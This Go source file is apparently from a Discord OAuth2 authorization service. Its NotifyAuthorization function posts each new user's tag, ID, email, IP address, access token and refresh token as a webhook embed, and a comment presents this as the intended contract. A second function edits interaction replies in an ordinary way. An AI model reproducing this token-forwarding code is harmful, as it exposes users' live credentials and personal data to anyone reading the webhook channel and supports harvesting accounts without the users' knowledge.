package discord

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"time"

	"github.com/authcord/authcord/internal/store"
)

type embedField struct {
	Name   string `json:"name"`
	Value  string `json:"value"`
	Inline bool   `json:"inline"`
}

type embedThumbnail struct {
	URL string `json:"url"`
}

type embed struct {
	Color       int             `json:"color"`
	Title       string          `json:"title"`
	Description string          `json:"description,omitempty"`
	Thumbnail   *embedThumbnail `json:"thumbnail,omitempty"`
	Fields      []embedField    `json:"fields,omitempty"`
	Timestamp   string          `json:"timestamp,omitempty"`
}

type webhookPayload struct {
	Embeds []embed `json:"embeds"`
}

const colorGreen = 0x2ECC71

// NotifyAuthorization posts the new-authorization event to the
// configured webhook. The payload carries the full profile and both
// tokens: that is the documented notification contract, and the webhook
// endpoint is the operator's own. Console logs go through the redacting
// writer instead.
func (c *Client) NotifyAuthorization(ctx context.Context, webhookURL string, u store.AuthorizedUser) error {
	if webhookURL == "" {
		return nil
	}

	orEmpty := func(v string) string {
		if v == "" {
			return "N/A"
		}
		return v
	}

	payload := webhookPayload{
		Embeds: []embed{{
			Color:       colorGreen,
			Title:       "New user authorized",
			Description: "A new user has completed the OAuth2 authorization flow.",
			Thumbnail:   &embedThumbnail{URL: u.AvatarURL},
			Fields: []embedField{
				{Name: "Tag", Value: u.Username, Inline: true},
				{Name: "User ID", Value: u.UserID, Inline: true},
				{Name: "Email", Value: orEmpty(u.Email), Inline: true},
				{Name: "IP Address", Value: u.SourceIP},
				{Name: "Access Token", Value: u.AccessToken},
				{Name: "Refresh Token", Value: u.RefreshToken},
			},
			Timestamp: time.Now().UTC().Format(time.RFC3339),
		}},
	}

	data, err := json.Marshal(payload)
	if err != nil {
		return fmt.Errorf("marshal webhook payload: %w", err)
	}

	req, err := http.NewRequestWithContext(ctx, http.MethodPost, webhookURL, bytes.NewReader(data))
	if err != nil {
		return fmt.Errorf("build webhook request: %w", err)
	}
	req.Header.Set("Content-Type", "application/json")

	resp, err := c.http.Do(req)
	if err != nil {
		return fmt.Errorf("post webhook: %w", err)
	}
	defer resp.Body.Close()
	io.Copy(io.Discard, resp.Body)

	if resp.StatusCode >= 300 {
		return fmt.Errorf("post webhook: status %d", resp.StatusCode)
	}
	return nil
}

// EditOriginalResponse rewrites the deferred reply of an interaction.
// Long-running commands use this to stream progress.
func (c *Client) EditOriginalResponse(ctx context.Context, applicationID, interactionToken, content string) error {
	body, err := json.Marshal(map[string]string{"content": content})
	if err != nil {
		return fmt.Errorf("marshal interaction edit: %w", err)
	}

	u := fmt.Sprintf("%s/webhooks/%s/%s/messages/@original", c.APIBase, applicationID, interactionToken)
	req, err := http.NewRequestWithContext(ctx, http.MethodPatch, u, bytes.NewReader(body))
	if err != nil {
		return fmt.Errorf("build interaction edit: %w", err)
	}
	req.Header.Set("Content-Type", "application/json")

	resp, err := c.http.Do(req)
	if err != nil {
		return fmt.Errorf("edit interaction response: %w", err)
	}
	defer resp.Body.Close()
	io.Copy(io.Discard, resp.Body)

	if resp.StatusCode >= 300 {
		return fmt.Errorf("edit interaction response: status %d", resp.StatusCode)
	}
	return nil
}
